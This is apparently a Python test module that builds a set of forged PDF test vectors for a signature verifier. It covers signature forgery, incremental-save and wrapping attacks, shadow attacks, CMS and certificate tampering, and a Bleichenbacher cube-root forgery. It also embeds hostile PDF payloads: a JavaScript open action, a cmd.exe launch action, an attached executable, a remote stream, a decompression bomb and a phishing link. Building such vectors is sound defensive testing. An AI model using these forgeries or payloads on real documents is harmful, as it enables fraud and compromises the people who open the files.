"""Every known attack grafted onto one genuine document: name → a function that makes the file.

    python -m tests.verify.attacks.grafts          writes tests/vectors/pdf/*.pdf anew

The class of an attack is the first word of its name: `usf` universal signature forgery (2019), `isa` incremental
saving, `swa` signature wrapping, `shadow` (2021), `eaa` and `ssa` attacks on certified documents (2021), `cms` the
container, `pki` the certificates, `box` the file around it. What must be said of each stands in
`tests/vectors/pdf/expected.toml`.
"""

import zlib
from collections.abc import Callable, Sequence
from hashlib import sha256

from certgen.core.cms import CmsProfile
from certgen.core.der import OCTET_STRING, SEQUENCE, SET, Reader, oid, tlv
from certgen.core.model import Signer
from keys.certificates import Pair
from tests.verify.attacks.frozen import (
    VECTORS,
    Frozen,
    assemble,
    load_genuine,
    number_of,
    objects_in,
    sealed,
    unsigned,
)
from tests.verify.builder import seal
from tests.verify.test_attacks import containers, gap_of, in_signer, put, replaced, wrapped

Graft = Callable[[Frozen, bytes], bytes]
Container = Callable[[bytes, CmsProfile, Signer], bytes]
Objects = dict[int, bytes]
SHA256_ONLY = tlv(SEQUENCE, oid("2.16.840.1.101.3.4.2.1"))
MD5 = tlv(SEQUENCE, oid("1.2.840.113549.2.5"), b"\x05\x00")


# After sealing: the signature dictionary, and what comes behind the end


def in_range(new: bytes) -> Graft:
    """Write over the signed range, keeping the length of the file."""
    return lambda office, pdf: put(pdf, pdf.index(b"/ByteRange [0 ") + 11, new.ljust(36))


def in_contents(new: bytes) -> Graft:
    """Write over the whole container, keeping the length of the file."""

    def graft(office: Frozen, pdf: bytes) -> bytes:
        b, c = gap_of(pdf)
        return put(pdf, b, new.ljust(c - b))

    return graft


def swapped(old: bytes, new: bytes) -> Graft:
    """Exchange words of the same length, once."""
    assert len(old) == len(new)

    def graft(office: Frozen, pdf: bytes) -> bytes:
        assert old in pdf
        at = pdf.rindex(old)
        return put(pdf, at, new)

    return graft


def update(pdf: bytes, objects: Objects, *, prev: bool = True, end: bytes = b"%%EOF\n") -> bytes:
    """Append new versions of objects with a table and a trailer of their own."""
    out, lines = pdf, b""
    start = int(pdf[pdf.rindex(b"startxref\n") + 10 :].split(b"\n")[0])
    for number, body in objects.items():
        lines += b"%d 1\n%010d 00000 n \n" % (number, len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, body)
    size = max(*objects, len(objects_in(pdf))) + 1
    root = pdf[pdf.rindex(b"/Root ") : pdf.rindex(b"/ID[")]
    back = b"/Prev %d" % start if prev else b""
    return out + b"xref\n%btrailer\n<</Size %d%b%b>>\nstartxref\n%d\n%b" % (lines, size, root, back, len(out), end)


def updated(make: Callable[[Objects], Objects], **how: object) -> Graft:
    """Append what `make` says of the objects of the file."""
    return lambda office, pdf: update(pdf, make(objects_in(pdf)), **how)  # type: ignore[arg-type]


def evil_page(objects: Objects) -> Objects:
    """The page with other contents."""
    page, fresh = number_of(objects, b"<</Type/Annot/Subtype/Widget") + 1, len(objects) + 1
    assert objects[page].startswith(b"<</Type/Page/")
    kept = objects[page].partition(b"/Contents ")
    drawn = b"1 0 0 rg 0 0 900 900 re f"
    return {
        page: kept[0] + b"/Contents %d 0 R" % fresh + kept[2].partition(b"R")[2],
        fresh: b"<</Length %d>>\nstream\n%b\nendstream" % (len(drawn), drawn),
    }


def annotated(kind: bytes, more: bytes = b"") -> Callable[[Objects], Objects]:
    """The page with one more annotation."""

    def make(objects: Objects) -> Objects:
        page, fresh = number_of(objects, b"<</Type/Annot/Subtype/Widget") + 1, len(objects) + 1
        shown = objects[page].replace(b"/Annots[", b"/Annots[%d 0 R " % fresh)
        return {
            page: shown,
            fresh: b"<</Type/Annot/Subtype/%b/Rect[50 50 900 300]/F 4/Contents(forged)%b>>" % (kind, more),
        }

    return make


def second_signature(objects: Objects) -> Objects:
    made = annotated(b"Widget", b"/FT/Sig/T(Seal2)/V %d 0 R" % number_of(objects, b"<</Type/Sig/"))(objects)
    root = number_of(objects, b"<</Type/Catalog")
    return made | {root: objects[root].replace(b"/Fields[", b"/Fields[%d 0 R " % (len(objects) + 1))}


def appended(more: bytes) -> Graft:
    return lambda office, pdf: pdf + more


def old_table(office: Frozen, pdf: bytes) -> bytes:
    """An update whose startxref points to the first table, so that a verifier sees no update."""
    start = pdf[pdf.rindex(b"startxref\n") :]
    body = update(pdf, evil_page(objects_in(pdf)))
    return body[: body.rindex(b"startxref\n")] + start


def copied_signature(office: Frozen, pdf: bytes) -> bytes:
    """An update that brings the signature dictionary again, range and all."""
    objects = objects_in(pdf)
    number = number_of(objects, b"<</Type/Sig/")
    return update(pdf, evil_page(objects) | {number: objects[number]})


def second_range(office: Frozen, pdf: bytes) -> bytes:
    """Another range before the true one; which one counts is a matter of taste."""
    new = b"/ByteRange [0 %010d %010d %010d]" % (0, len(pdf), 0)
    at = pdf.rindex(b"/Reference[")
    return pdf[:at] + new + pdf[at:]


def moved_block(office: Frozen, pdf: bytes) -> bytes:
    """The end of the file moved down, and new objects in the enlarged gap without a table of their own."""
    _, c = gap_of(pdf)
    return pdf[:c] + b" " * 200 + b"99 0 obj\n<</Type/Catalog>>\nendobj\n" + pdf[c:]


# Before sealing, by somebody who has the key or an issuer who was careless


def prepared(opening: bytes, old: bytes, new: bytes) -> Graft:
    """Change one object, then seal."""

    def change(objects: Objects) -> None:
        number = number_of(objects, opening)
        assert old in objects[number]
        objects[number] = objects[number].replace(old, new, 1)

    return lambda office, pdf: sealed(office, pdf, change=change)


def in_catalog(more: bytes) -> Graft:
    return prepared(b"<</Type/Catalog", b"/Lang(zh-CN)", b"/Lang(zh-CN)" + more)


def in_page(more: bytes) -> Graft:
    return prepared(b"<</Type/Page/", b"/MediaBox", more + b"/MediaBox")


def with_object(body: bytes) -> Graft:
    """One more object that nothing refers to, then seal."""
    return lambda office, pdf: sealed(office, pdf, change=lambda objects: objects.update({len(objects) + 1: body}))


def two_annotations(office: Frozen, pdf: bytes) -> bytes:
    return sealed(office, pdf, change=lambda objects: objects.update(annotated(b"FreeText")(objects)))


def hidden_then_shown(office: Frozen, pdf: bytes) -> bytes:
    """The dangerous object is in the file before it is sealed, and an update makes it the page's."""
    drawn = b"<</Length 25>>\nstream\n1 0 0 rg 0 0 900 900 re f\nendstream"
    first = with_object(drawn)(office, pdf)
    objects = objects_in(first)
    page = number_of(objects, b"<</Type/Page/")
    kept = objects[page].partition(b"/Contents ")
    return update(first, {page: kept[0] + b"/Contents %d 0 R" % len(objects) + kept[2].partition(b"R")[2]})


def replaced_later(office: Frozen, pdf: bytes) -> bytes:
    """Two catalogs are sealed; an update of the table alone exchanges them."""
    other = b"<</Type/Catalog/Pages 21 0 R>>"
    first = with_object(other)(office, pdf)
    objects = objects_in(first)
    return update(first, {number_of(objects, b"<</Type/Catalog/Version"): other})


def doubled_object(office: Frozen, pdf: bytes) -> bytes:
    """The signature dictionary twice: once where the table says, once where a repairing reader finds it last."""
    return sealed(office, pdf, extra=b"23 0 obj\n<</Type/Sig/Filter/Adobe.PPKLite>>\nendobj\n")


def bomb(office: Frozen, pdf: bytes) -> bytes:
    """A record that inflates to 16 MiB."""
    packed = zlib.compress(bytes(2**24), 9)

    def change(objects: Objects) -> None:
        number = number_of(objects, b"<</Type/EmbeddedFile")
        start = objects[number].partition(b"/Length ")[0]
        objects[number] = start + b"/Length %d>>\nstream\n%b\nendstream" % (len(packed), packed)

    return sealed(office, pdf, change=change)


# The container


def with_attributes(make: Callable[[list[bytes]], Sequence[bytes]]) -> Container:
    """A container over other signed attributes, which are signed as they are."""

    def container(digest: bytes, profile: CmsProfile, signer: Signer) -> bytes:
        inside = Reader(profile.signed_attributes(digest)).inside(SET)
        held = []
        while inside.more():
            held.append(inside.raw(SEQUENCE))
        changed = tlv(SET, *make(held))
        done = profile.encode(digest, signer.sign(sha256(changed).digest()))
        return in_attributes(changed)(done, profile, signer)

    return container


def in_attributes(changed: bytes) -> Container:
    def container(done: bytes, profile: CmsProfile, signer: Signer) -> bytes:
        raw = profile.decode(done)[1]

        class Again:
            def sign(self, _: bytes) -> bytes:
                return raw

        attributes = b"\xa0" + changed[1:]
        return in_signer(lambda parts: parts.__setitem__(3, attributes))(
            profile.decode(done)[0],
            profile,
            Again(),  # type: ignore[arg-type]
        )

    return container


def cube_root(digest: bytes, profile: CmsProfile, signer: Signer) -> bytes:
    """Bleichenbacher 2006: for the exponent 3, a number whose cube begins as a padded digest does."""
    info = bytes.fromhex("3031300d060960864801650304020105000420") + sha256(profile.signed_attributes(digest)).digest()
    block = int.from_bytes((b"\0\1\xff\xff\xff\xff\xff\xff\xff\xff\0" + info).ljust(256, b"\xff"))
    low, high = 0, 1 << 700
    while low < high:
        middle = (low + high + 1) // 2
        low, high = (middle, high) if middle**3 <= block else (low, middle - 1)
    return profile.encode(digest, low.to_bytes(256))


def attribute(kind: str, value: bytes) -> bytes:
    return tlv(SEQUENCE, oid(kind), tlv(SET, value))


SIGNING_TIME = attribute("1.2.840.113549.1.9.5", tlv(0x17, b"160101000000Z"))
OTHER_ESS = attribute(
    "1.2.840.113549.1.9.16.2.47", tlv(SEQUENCE, tlv(SEQUENCE, tlv(SEQUENCE, tlv(OCTET_STRING, bytes(32)))))
)


def is_ess(one: bytes) -> bool:
    return oid("1.2.840.113549.1.9.16.2.47") in one


def two_values(held: list[bytes]) -> Sequence[bytes]:
    """The digest with a second value."""
    number = oid("1.2.840.113549.1.9.4")
    (digest,) = (one for one in held if number in one)
    kept = digest[-34:]
    doubled = tlv(SEQUENCE, number, tlv(SET, kept, tlv(OCTET_STRING, bytes(32))))
    return sorted(doubled if one == digest else one for one in held)


ATTRIBUTES: dict[str, Callable[[list[bytes]], Sequence[bytes]]] = {
    "cms time of signing": lambda held: sorted([*held, SIGNING_TIME]),
    "cms digest twice": lambda held: sorted([*held, held[-2]]),
    "cms without the signer's hash": lambda held: [one for one in held if not is_ess(one)],
    "cms hash of another signer": lambda held: sorted(OTHER_ESS if is_ess(one) else one for one in held),
    "cms attributes out of order": lambda held: held[::-1],
    "cms two values in one attribute": two_values,
}


def cms(container: Container) -> Graft:
    return lambda office, pdf: sealed(office, pdf, container=container)


def lists_in_bag(office: Frozen, pdf: bytes) -> bytes:
    """An empty revocation list beside the certificates."""

    def more(bag: bytes) -> bytes:
        return bag + tlv(0xA1, tlv(SEQUENCE))

    return sealed(office, pdf, container=replaced(3, more))


def sibling_in_bag(office: Frozen, pdf: bytes) -> bytes:
    sibling = office.other("sibling", 112).der
    return sealed(
        office, pdf, container=replaced(3, lambda _: tlv(0xA0, *sorted((office.seal.der, office.ca.der, sibling))))
    )


def other_issuer_in_bag(office: Frozen, pdf: bytes) -> bytes:
    ca = office._authority("other ca", 900)
    return sealed(office, pdf, container=replaced(3, lambda _: tlv(0xA0, *sorted((office.seal.der, ca.der)))))


def transplanted(office: Frozen, pdf: bytes) -> bytes:
    """The container of one document in another of ours."""
    twin = prepared(b"<</Type/Catalog", b"/Lang(zh-CN)", b"/Lang(en-GB)")(office, pdf)
    b, c = gap_of(pdf)
    return put(twin, gap_of(twin)[0], pdf[b:c])


# The certificates


def by(make: Callable[[Frozen], tuple[Pair, tuple[bytes, ...]]], container: Container | None = None) -> Graft:
    """Seal with another certificate."""

    def graft(office: Frozen, pdf: bytes) -> bytes:
        pair, chain = make(office)
        return sealed(office, pdf, signer=office.signer_with(pair, chain), container=container)

    return graft


def by_one_of_ours(choose: Callable[[Frozen], Pair]) -> Graft:
    return by(lambda office: (choose(office), (office.ca.der,)))


# The file around it


def saved_anew(office: Frozen, pdf: bytes, *, drop_seal: bool = True, forge: bool = False) -> bytes:
    """What another program writes when it saves: the same page, no signature."""
    objects = objects_in(pdf)
    root = number_of(objects, b"<</Type/Catalog")
    sig = number_of(objects, b"<</Type/Sig/")
    if drop_seal:
        objects[sig] = b"null"
        head, _, rest = objects[root].partition(b"/AcroForm<<")
        objects[root] = head + b"/ViewerPreferences" + rest.partition(b"/ViewerPreferences")[2]
        assert b"/Perms" not in objects[root]
    if forge:
        objects |= {n: body for n, body in evil_page(objects).items() if n in objects}
        objects[len(objects) + 1] = b"<</Length 25>>\nstream\n1 0 0 rg 0 0 900 900 re f\nendstream"
    return assemble(objects, root=root, before=b"%PDF-1.7\n%\xf7\xa2\xa3\xa4\n")


def attached_elsewhere(office: Frozen, pdf: bytes) -> bytes:
    """A PDF of somebody's with a genuine licence as its attachment."""
    return assemble(
        {
            1: b"<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles<</Names[(licence.pdf) 4 0 R]>>>>>>",
            2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
            4: b"<</Type/Filespec/F(licence.pdf)/UF(licence.pdf)/EF<</F 5 0 R>>>>",
            5: b"<</Type/EmbeddedFile/Length %d>>\nstream\n%b\nendstream" % (len(pdf), pdf),
        },
        root=1,
    )


def cloned_host(office: Frozen, pdf: bytes) -> bytes:
    """The genuine page under the look-alike's link."""
    objects = objects_in(saved_anew(office, pdf))
    link = annotated(b"Link", b"/A<</S/URI/URI(https://licence.example.evil/N8G2YJPSH4QY)>>")(objects)
    return assemble(objects | link, root=number_of(objects, b"<</Type/Catalog"))


def encrypted(office: Frozen, pdf: bytes) -> bytes:
    objects, root = unsigned(pdf)
    filled = b"<%b>" % (b"ab" * 32)
    lock = b"/Encrypt<</Filter/Standard/V 2/R 3/Length 128/P -44/O%b/U%b>>" % (filled, filled)
    return assemble(objects, root=root, trailer=lock)


def wrong_count(office: Frozen, pdf: bytes) -> bytes:
    """The table sealed with an entry that points into another object."""
    objects, root = unsigned(pdf)
    signer = office.signer
    whole = assemble(objects, root=root)
    table = whole.rindex(b"\nxref\n") + 1
    line = table + len(b"xref\n0 %d\n" % (len(objects) + 1)) + 20 * 5
    broken = put(whole, line, b"%010d" % (int(whole[line : line + 10]) + 3))
    return seal(broken, CmsProfile(signer.certificate, signer.chain, signer.algorithm), signer)


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
AFTER: dict[str, Graft] = {
    "genuine": lambda office, pdf: pdf,
    "usf contents missing": swapped(b"]/Contents <", b"]/Cantents <"),
    "usf contents null": in_contents(b"null"),
    "usf contents empty": in_contents(b"<>"),
    "usf contents one zero": in_contents(b"<00>"),
    "usf contents all zeros": lambda o, p: put(p, (g := gap_of(p))[0] + 1, b"0" * (g[1] - g[0] - 2)),
    "usf contents a reference": in_contents(b"99 0 R"),
    "usf range missing": swapped(b"/ByteRange [", b"/BiteRange ["),
    "usf range null": in_range(b"null"),
    "usf range empty": in_range(b"[]"),
    "usf range of two numbers": in_range(b"[0 0000000100]"),
    "usf range negative": in_range(b"[0 -000000001 0000000001 0000000001]"),
    "usf range huge": in_range(b"[0 9999999999 9999999999 9999999999]"),
    "usf range of nothing": in_range(b"[0 0000000000 0000000000 0000000000]"),
    "usf range of a part": lambda o, p: put(p, p.index(b"/ByteRange [0 ") + 36, b"0000000001"),
    "usf other subfilter": swapped(b"/ETSI.CAdES.detached", b"/adbe.x509.rsa_sha1 "),
    "usf other filter": swapped(b"/Adobe.PPKLite", b"/Evil_.PPKLite"),
    "isa page replaced": updated(evil_page),
    "isa without end mark": updated(evil_page, end=b""),
    "isa without previous table": updated(evil_page, prev=False),
    "isa objects alone": appended(b"20 0 obj\n<</Type/Page>>\nendobj\n"),
    "isa trailer alone": appended(b"trailer\n<</Root 22 0 R/Size 24>>\n"),
    "isa old table named": old_table,
    "isa signature copied": copied_signature,
    "isa table as a stream": appended(
        b"30 0 obj\n<</Type/XRef/Size 31/Root 22 0 R/W[1 2 1]/Length 0>>\nstream\n\nendstream\n"
    ),
    "swa end moved down": wrapped,
    "swa objects in the gap": moved_block,
    "swa second range": second_range,
    "swa comment in the gap": lambda o, p: put(p, gap_of(p)[1] - 40, b"%" + b"evil" * 9),
    "swa string in the gap": lambda o, p: put(p, gap_of(p)[1] - 40, b"> (evil) <"),
    "swa object in the padding": lambda o, p: put(p, gap_of(p)[1] - 9, b"deadbeef"),
    "shadow hidden then shown": hidden_then_shown,
    "shadow catalogs exchanged": replaced_later,
    "eaa free text": updated(annotated(b"FreeText")),
    "eaa stamp": updated(annotated(b"Stamp")),
    "eaa redaction": updated(annotated(b"Redact")),
    "ssa second signature field": updated(second_signature),
    "cms of another document": transplanted,
    "box byte in front": lambda o, p: b"\n" + p,
    "box script in front": lambda o, p: b"#!/bin/sh\necho forged\nexit\n" + p,
    "box line end behind": appended(b"\n"),
    "box archive behind": appended(b"PK\x05\x06" + bytes(18)),
    "box page behind": appended(b"<html><body>forged</body></html>\n"),
    "box twice": lambda o, p: p[:2_000] + p,
    "box cut short": lambda o, p: p[:-40],
    "box line ends of mail": lambda o, p: p.replace(b"\n", b"\r\n"),
    "box table that loops": updated(lambda objects: {9: objects[9]}),
    "box genuine attached elsewhere": attached_elsewhere,
    "box saved anew": saved_anew,
    "box saved anew with its seal": lambda o, p: saved_anew(o, p, drop_seal=False),
    "box code of a genuine on a forgery": lambda o, p: saved_anew(o, p, forge=True),
    "box link to a cloned site": cloned_host,
    "box encrypted": encrypted,
    "box one byte of the page": lambda o, p: put(p, 20_000, bytes((p[20_000] ^ 1,))),
}
BEFORE: dict[str, Graft] = {
    "shadow layer prepared": in_catalog(b"/OCProperties<</OCGs[]/D<</OFF[]>>>>"),
    "shadow form field prepared": lambda o, p: sealed(
        o, p, change=lambda objects: objects.update(second_signature(objects))
    ),
    "shadow annotation prepared": two_annotations,
    "eaa certified for forms": prepared(b"<</Type/Sig/", b"/P 1/V", b"/P 2/V"),
    "eaa certified for annotations": prepared(b"<</Type/Sig/", b"/P 1/V", b"/P 3/V"),
    "eaa not certified": prepared(b"<</Type/Catalog", b"/Perms", b"/Perm_"),
    "box script on opening": in_catalog(b"/OpenAction" + SCRIPT),
    "box script of the page": in_page(b"/AA<</O" + SCRIPT + b">>"),
    "box form of XFA": prepared(b"<</Type/Catalog", b"/SigFlags 3", b"/SigFlags 3/XFA(x)"),
    "box launch": with_object(b"<</S/Launch/Win<</F(cmd.exe)>>>>"),
    "box stream from elsewhere": with_object(b"<</Length 0/F(//host/share/page)>>\nstream\n\nendstream"),
    "box second file": with_object(b"<</Type/Filespec/F(a.exe)/UF(a.exe)/EF<</F 9 0 R>>>>"),
    "box key twice": prepared(b"<</Type/Page/", b"/MediaBox", b"/Contents 8 0 R/MediaBox"),
    "box object twice": doubled_object,
    "box hybrid table": lambda o, p: sealed(o, p, trailer=b"/XRefStm 1000"),
    "box table sealed wrong": wrong_count,
    "box record that inflates to 16 MiB": bomb,
    "box record elsewhere": prepared(b"<</Type/Catalog", b"/AF[", b"/Af["),
    "pki stolen": by_one_of_ours(lambda o: o.other("stolen", 110)),
    "pki sibling department": by_one_of_ours(lambda o: o.other("sibling", 112)),
    "pki not enrolled": by_one_of_ours(lambda o: o.other("nobody", 115)),
    "pki expired": by_one_of_ours(lambda o: o.expired),
    "pki not yet valid": by_one_of_ours(lambda o: o.early),
    "pki usage of a web server": by_one_of_ours(lambda o: o.of_server),
    "pki no key usage": by_one_of_ours(lambda o: o.without_usage),
    "pki no policy": by_one_of_ours(lambda o: o.without_policy),
    "pki unknown critical extension": by_one_of_ours(lambda o: o.critical),
    "pki seal as an authority": by(lambda o: (o.below, (o.seal.der,))),
    "pki authority as a seal": by(lambda o: (o.ca, (o.root.der,))),
    "pki authority of the same name": by(lambda o: (o.of_false_ca, (o.false_ca.der,))),
    "cms cube root": by(lambda o: (o.weak, (o.ca.der,)), cube_root),
    "cms revocation list beside": lists_in_bag,
    "cms sibling in the bag": sibling_in_bag,
    "cms issuer substituted": other_issuer_in_bag,
    "cms digest algorithm MD5": cms(replaced(1, lambda _: tlv(SET, MD5))),
}
_MADE_BY_CHANCE = {"issuer substituted in the bag"}


def grafts() -> dict[str, Graft]:
    """All of them."""
    tampered = {f"cms {name}": cms(container) for name, container in _containers().items()}
    attributes = {name: cms(with_attributes(make)) for name, make in ATTRIBUTES.items()}
    return AFTER | BEFORE | attributes | tampered


def _containers() -> dict[str, Container]:
    return {name: made for name, (_, made) in containers(Frozen()).items() if name not in _MADE_BY_CHANCE}


def file_of(name: str) -> str:
    return name.replace(" ", "-").replace("'", "").lower() + ".pdf"


def main() -> None:
    """Write all files anew."""
    office, pdf = Frozen(), load_genuine()
    for name, graft in grafts().items():
        (VECTORS / file_of(name)).write_bytes(graft(office, pdf))


if __name__ == "__main__":
    main()
